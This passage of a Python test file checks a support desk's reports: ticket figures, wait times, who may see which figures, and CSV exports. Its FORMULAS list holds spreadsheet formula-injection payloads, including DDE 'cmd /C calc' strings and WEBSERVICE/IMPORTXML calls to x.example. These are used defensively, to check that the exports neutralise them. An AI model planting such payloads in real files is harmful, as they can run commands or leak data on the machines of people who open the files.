        changing.withdraw(numbers["withdrawn"], jerome)
        merging.merge(numbers["twice merged"], ada, numbers["merged"])
        merging.merge(numbers["merged"], ada, numbers["goes on"])
        merging.merge(numbers["closed before"], ada, numbers["goes on"])
        clock.forward(hours=49)
        changing.set_status(numbers["agent"], grace, Status.CLOSED)
        tick()
        values = report(grace, Asked(ALL), names_for(grace)).values
        assert values is not None
        ways = ("closed_by_customer", "closed_recorded", "closed_by_time", "closed_by_agent", "withdrawn", "merged")
        assert [values[way].tickets for way in ways] == [2, 1, 1, 1, 1, 2]
        assert (values["merged"].values, values["closed"].tickets, values["confirmed"].tickets) == (2, 5, 3)
        for way in ways:
            assert listed(host, grace, Asked(ALL).figure(way)) == values[way].tickets, way
        before = measured(host)
        forget(host)
        while measuring_old.measure_old():
            pass
        assert measured(host) == before


@pytest.mark.every_database
def test_customers_are_asked_once_for_each_solution_and_those_who_answered_are_a_part_of_them(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    answered, silent, unanswered = (open_ticket(subject=name) for name in ("answered", "silent", "unanswered"))
    with host.app.app_context():
        ada, grace, jerome = host.agent("ada"), host.agent("grace"), host.customer("jerome")
        for number in (answered, silent):
            replying.reply(number, ada, body=f"Solved {number}.", status=Status.RESOLVED)
        changing.set_status(silent, grace, Status.OPEN)
        changing.set_status(silent, grace, Status.RESOLVED)
        changing.withdraw(unanswered, jerome)
        clock.forward(days=40)
        rating.rate(answered, jerome, good=False)
        rating.rate(answered, jerome, good=True)
        period = read_period("2026-04-22", "2026-04-23", "UTC", clock())
        values = report(grace, Asked(period), names_for(grace)).values
        assert values is not None
        assert [values[name].tickets for name in ("asked", "asked_answered", "rated")] == [2, 1, 0]
        assert [one.ordinal for one in measure_of(host, silent, "asked")] == [1]
        replying.still_need_help(answered, jerome, body="It is back.")
        changing.set_status(answered, grace, Status.RESOLVED)
        assert [(one.ordinal, one.word) for one in measure_of(host, answered, "asked")] == [(1, "answered"), (2, "")]
        rating.rate(answered, jerome, good=True)
        assert [one.word for one in measure_of(host, answered, "asked")] == ["answered", "answered"]


@pytest.mark.every_database
def test_a_customers_wait_is_the_sum_of_the_spells_in_which_support_owed_a_word(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    number = open_ticket()
    with host.app.app_context():
        ada, grace, jerome = host.agent("ada"), host.agent("grace"), host.customer("jerome")
        hours.change_hours(grace, "support", {"zone": "UTC", "wednesday": "09:00-17:33"})
        clock.forward(hours=2)
        replying.reply(number, ada, body="What does it say?")
        clock.forward(hours=24)
        replying.follow_up(number, jerome, body="Nothing.")
        clock.forward(hours=3)
        replying.reply(number, ada, body="Solved.", status=Status.RESOLVED)
        clock.forward(hours=10)
        changing.set_status(number, grace, Status.OPEN)
        clock.forward(hours=10)
        changing.set_status(number, grace, Status.RESOLVED)
        waited = [(one.seconds / 3600, one.business_seconds / 3600) for one in measure_of(host, number, "waited")]
        assert waited == [(5, 2), (5, 2)]
        replying.still_need_help(number, jerome, body="It is back.")
        clock.forward(hours=1)
        changing.withdraw(number, jerome)
        assert [one.seconds / 3600 for one in measure_of(host, number, "waited")] == [5, 5, 6]
        found = report(grace, Asked(ALL), names_for(grace)).values
        assert found is not None
        assert (found["customer_wait"].values, found["customer_wait"].calendar) == (
            1,
            Spread(6 * 3600, 6 * 3600, 21600),
        )


@pytest.mark.every_database
def test_how_much_was_open_on_a_day_is_counted_from_what_was_open_then_alone(
    host: Host, clock: Clock, open_ticket: OpenTicket, monkeypatch: pytest.MonkeyPatch
) -> None:
    with host.app.app_context():
        ada, grace = host.agent("ada"), host.agent("grace")
        long = open_ticket(subject="long")
        for number in range(4):
            clock.forward(days=30 if number == 2 else 3)
            ticket = open_ticket(subject=f"Ticket {number}", body=f"Body {number}")
            replying.reply(ticket, ada, body="Solved.", status=Status.RESOLVED)
        replying.reply(long, ada, body="Solved at last.", status=Status.RESOLVED)
        monkeypatch.setattr(reports, "MAX_MOMENTS", 1)
        for day, count in (("2026-04-21", 0), ("2026-04-22", 1), ("2026-05-01", 1), ("2026-05-31", 0)):
            asked = Asked(read_period(day, day, "UTC", clock()))
            with host.count_statements() as ran:
                assert report(grace, asked, names_for(grace)).trend == [count]
            assert len(ran) <= BUDGET


# Who sees what


def test_an_agent_reads_their_queues_and_themselves_and_a_lead_everybody(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    support, billing = open_ticket(), open_ticket("mina", category="invoices", site_ids=[])
    with host.app.app_context():
        clock.forward(hours=1)
        replying.reply(support, host.agent("ada"), body="One.")
        replying.reply(billing, host.agent("ben"), body="Two.")
        for who, count, agents in (("grace", 2, {"Ada Lovelace", "Ben Okoro"}), ("ada", 1, {"Ada Lovelace"})):
            actor = host.agent(who)
            found = report(actor, Asked(ALL), names_for(actor))
            assert found.values is not None
            assert found.values["first_response"].tickets == count
            assert {one.label for one in found.agents if one.values["first_response"].tickets} == agents
        ada = host.agent("ada")
        with pytest.raises(NotAllowed, match="leads"):
            report(ada, Asked(ALL, agent=str(host.ids["ben"])), names_for(ada))
        own = report(ada, Asked(ALL, agent=str(host.ids["ada"])), names_for(ada)).values
        assert own is not None
        assert own["first_response"].tickets == 1
    assert host.client("ada").get(f"{PAGE}?agent={host.ids['ben']}").status_code == 403
    assert host.client("ada").get(f"{PAGE}moments.csv?agent={host.ids['ben']}").status_code == 403
    assert host.client("jerome").get(PAGE).status_code == 403
    assert "Ben Okoro" not in host.client("ada").get(PAGE).text


@pytest.mark.every_database
def test_no_list_opens_a_colleagues_figures(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    number = open_ticket()
    with host.app.app_context():
        clock.forward(hours=1)
        replying.reply(number, host.agent("grace"), body="One.")
        whose = {
            who: Figure("first_response", ALL.begins, ALL.ends, agent=str(host.ids[who])) for who in ("grace", "ada")
        }
        unassigned = Figure("backlog", ALL.begins, ALL.ends, agent="nobody")
        filters = {"view": "all", "figure": str(whose["grace"])}
        key = save_view(host.agent("grace"), {"name": "Mine", "filters": filters, "shared": True})
        for who, count in (("grace", 1), ("ada", 0)):
            assert listed(host, host.agent(who), whose["grace"]) == count
            assert tallies(host.agent(who)) == {}
        assert listed(host, host.agent("ada"), unassigned) == 1
    asked = ("view=all&figure=" + str(whose["grace"]), f"saved={key}", f"view=mine&q=figure:{whose['grace']}")
    for who, shown in (("grace", True), ("ada", False)):
        client = host.client(who)
        for words in asked:
            page = client.get(f"/admin/support/?{words}", follow_redirects=True)
            assert page.status_code == 200
            assert (number in page.text) == shown, (who, words)
            assert ("cannot be shown to you" in page.text) != shown, (who, words)
    own = host.client("ada").get(f"/admin/support/?view=all&figure={whose['ada']}").text
    assert "cannot be shown" not in own


def test_what_is_filtered_is_counted_nowhere_until_it_is_released(host: Host, open_ticket: OpenTicket) -> None:
    number = open_ticket()
    with host.app.app_context():
        grace = host.agent("grace")
        sorting.put_aside(number, grace, reason="spam")
        found = report(grace, Asked(ALL), names_for(grace))
        assert found.values is not None
        assert found.backlog is not None
        assert (found.values["opened"].tickets, found.backlog.tickets) == (0, 0)
        sorting.release(number, grace)
        found = report(grace, Asked(ALL), names_for(grace))
        assert found.values is not None
        assert found.values["opened"].tickets == 1


def test_of_too_much_nothing_is_shown_and_it_is_said(
    host: Host, open_ticket: OpenTicket, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(3):
        open_ticket(subject=f"Ticket {number}", body=f"Body {number}")
    monkeypatch.setattr(reports, "MAX_MOMENTS", 2)
    client = host.client("grace")
    page = unescape(client.get(PAGE).text)
    assert "more than 2 entries in this period" in page
    assert "In this period" not in page
    answer = client.get(f"{PAGE}figures.csv")
    assert (answer.status_code, answer.mimetype) == (422, "text/html")
    assert "more than 2 entries in this period" in unescape(answer.text)


# The page


@pytest.fixture
def answered(host: Host, clock: Clock, open_ticket: OpenTicket) -> str:
    """A ticket that was answered after an hour, resolved and confirmed; beside one that waits."""
    number = open_ticket()
    open_ticket("mina", subject="Another", site_ids=[])
    with host.app.app_context():
        clock.forward(hours=1)
        replying.reply(number, host.agent("ada"), body="Solved.", status=Status.RESOLVED)
        replying.confirm_solved(number, host.customer("jerome"))
    return number


def test_every_number_of_the_page_opens_as_many_tickets(host: Host, answered: str) -> None:
    client = host.client("grace")
    page = client.get(f"{PAGE}?since=2026-04-20&until=2026-04-23").text
    links = re.findall(r'<a(?: class="sg-num")? href="([^"]*figure=[^"]*)">([\d,]+)</a>', page)
    assert len(links) > 20
    for href, number in dict(links).items():
        listed = client.get(unescape(href)).text
        assert len(re.findall(r'class="sg-subject"', listed)) == int(number), href
        assert "Counted: " in listed


def test_the_list_says_in_words_what_it_counts_and_keeps_it_while_it_is_searched(host: Host, answered: str) -> None:
    figure = f"first_response/20260422T0000/20260423T0000/support/{host.ids['ada']}"
    page = unescape(host.client("grace").get(f"/admin/support/?view=all&figure={figure}").text)
    assert "Counted: First response, 22 Apr 2026, 00:00 – 23 Apr 2026, 00:00, Support, Ada Lovelace" in page
    assert f'<input type="hidden" name="figure" value="{figure}">' in page
    assert answered in page
    wrong = host.client("grace").get("/admin/support/?view=all&figure=nonsense")
    assert wrong.status_code == 200


def test_the_page_says_the_times_in_both_clocks_and_the_charts_have_their_tables(host: Host, answered: str) -> None:
    page = unescape(host.client("grace").get(f"{PAGE}?since=2026-04-20&until=2026-04-23").text)
    assert page.count("1 h 0 m") >= 8
    assert page.count('<svg class="sg-chart"') == 4
    assert page.count("The same as a table") == 4
    assert "100 %" in page
    assert "2026-04-20 to 2026-04-23, days in UTC" in page


def test_days_are_those_of_the_desk_unless_another_zone_is_asked_for(host: Host, answered: str) -> None:
    with host.app.app_context():
        hours.change_hours(host.agent("grace"), "support", {"zone": "Asia/Tokyo"})
    client = host.client("grace")
    assert "days in Asia/Tokyo" in client.get(PAGE).text
    assert "days in Europe/Berlin" in client.get(f"{PAGE}?zone=Europe/Berlin").text
    assert "days in UTC" in client.get(f"{PAGE}?zone=UTC").text


def test_the_page_and_the_list_of_the_backlog_say_what_is_counted(host: Host, answered: str) -> None:
    client = host.client("grace")
    page = unescape(client.get(PAGE).text)
    assert "Of the tickets you see. What is snoozed counts as open." in page
    [href] = {one for one in re.findall(r'href="([^"]*figure=backlog/20000101[^"]*//)"', page)}
    assert "Counted: Backlog, before 22 Apr 2026, 15:04<" in unescape(client.get(href).text)


def test_a_period_without_anything_says_so(host: Host) -> None:
    page = host.client("grace").get(f"{PAGE}?since=2025-01-01&until=2025-01-03").text
    assert "Nothing happened in this period." in page
    assert '<svg class="sg-chart"' not in page


# CSV


def table(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))


def test_the_figures_as_csv_are_those_of_the_page(host: Host, answered: str) -> None:
    rows = table(host.client("grace").get(f"{PAGE}figures.csv?since=2026-04-20&until=2026-04-23"))
    found = {(row["by"], row["of"], row["figure"]): row for row in rows}
    assert {name for __, __, name in found} == {*FIGURES, "open_at_end"}
    assert [found["day", f"2026-04-{day}", "open_at_end"]["tickets"] for day in (21, 22, 23)] == ["0", "1", ""]
    one = found["all", "", "first_response"]
    assert (one["tickets"], one["median_seconds"], one["p90_seconds"], one["mean_seconds"]) == (
        "1",
        "3600",
        "3600",
        "3600.0",
    )
    assert found["queue", "Support", "resolved"]["tickets"] == "1"
    assert found["agent", "Ada Lovelace", "first_response"]["business_median_seconds"] == "3600"
    assert found["day", "2026-04-22", "opened"]["tickets"] == "2"


def test_every_value_as_csv_has_both_clocks(host: Host, answered: str) -> None:
    rows = table(host.client("grace").get(f"{PAGE}moments.csv"))
    assert [(row["ticket_id"], row["kind"], row["seconds"]) for row in rows] == [
        (answered, "asked", "0"),
        (answered, "closed", "0"),
        (answered, "first_response", "3600"),
        (answered, "resolved", "3600"),
        (answered, "waited", "3600"),
    ]
    assert (rows[1]["word"], rows[2]["queue"]) == ("customer_confirmed", "Support")
    assert rows[2]["at"] == "2026-04-22T15:03:00Z"


FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example","y")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n-1+1",
    "  =1+1",
    "\xa0=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1+1)",
    '","=1+1',
    '"=1+1"',
    ";=1+1",
)
"""What somebody may be called so that a spreadsheet carries it out."""


def downloads_named(host: Host, formula: str) -> dict[str, str]:
    """Every export, where queues and agents are called so: an agent by more than a letter, to be told from it."""
    with host.app.app_context():
        host.db.session.execute(update(Queue).where(Queue.key == "support").values(name=formula))
        host.db.session.execute(update(Agent).values(name=f"{formula}#"))
        host.db.session.commit()
    host.bent = "names were changed past the desk"
    client = host.client("grace")
    return {name: client.get(f"{PAGE}{name}.csv").get_data(as_text=True) for name in ("figures", "moments")}


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_name_is_a_formula_and_read_back_it_is_the_name(host: Host, answered: str, formula: str) -> None:
    for name, text in downloads_named(host, formula).items():
        named = set()
        for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            assert None not in row, "no cell became two"
            named |= {value.removeprefix("'") for value in row.values() if "+1" in value or formula in value}
            assert not [one for one in row.values() if one.lstrip(" \xa0").startswith(BEGINS_A_FORMULA)], name
        assert named == {formula, f"{formula}#"}, name


def test_every_export_is_among_those_looked_at(host: Host) -> None:
    exports = {str(rule) for rule in host.app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx", ".json"))}
    assert {one.removeprefix(PAGE) for one in exports if "support" in one} == {"figures.csv", "moments.csv"}


@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice is installed to open what is exported")
def test_libreoffice_computes_none_of_it(host: Host, answered: str, tmp_path: Path) -> None:
    for number, formula in enumerate((*FORMULAS, None)):
        for name, text in downloads_named(host, formula or "plain").items():
            # The last one shows that a formula would be seen.
            (tmp_path / f"{number}-{name}.csv").write_text(text if formula else f"{text}=1+1\n", "utf-8")
    opened = sorted(tmp_path.glob("*.csv"))
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    command = ["soffice", home, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), *map(str, opened)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    computed = [one.name for one in sorted(tmp_path.glob("*.fods")) if "table:formula" in one.read_text("utf-8")]
    assert len(opened) == len(list(tmp_path.glob("*.fods"))) == 2 * len(FORMULAS) + 2
    assert computed == [f"{len(FORMULAS)}-figures.fods", f"{len(FORMULAS)}-moments.fods"]


def test_numbers_stay_numbers_and_plain_text_is_as_it_is() -> None:
    assert [cell(one) for one in (-3, 2.5, None, "plain", "a=b", 0)] == ["-3", "2.5", "", "plain", "a=b", "0"]


# What it costs

BUDGET = 8


@pytest.mark.every_database
def test_a_report_costs_as_many_statements_whatever_there_is(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    def cost(path: str, who: str = "grace") -> int:
        client = host.client(who)
        client.get(PAGE + path)
        with host.count_statements() as ran:
            assert client.get(PAGE + path).status_code == 200
        assert not [one for one in ran.ran if "sgsupport_event" in one], "no history is read"
        return len(ran)

    paths = ("", "?since=2025-06-01&until=2026-05-01&queue=support", "figures.csv", "moments.csv")
    few = [cost(path) for path in paths] + [cost("", "ada")]
    for number in range(12):
        ticket = open_ticket(subject=f"Ticket {number}", body=f"Body {number}")
        with host.app.app_context():
            clock.forward(hours=3)
            replying.reply(ticket, host.agent("grace"), body="Solved.", status=Status.RESOLVED)
    assert [cost(path) for path in paths] + [cost("", "ada")] == few
    assert max(few) <= BUDGET
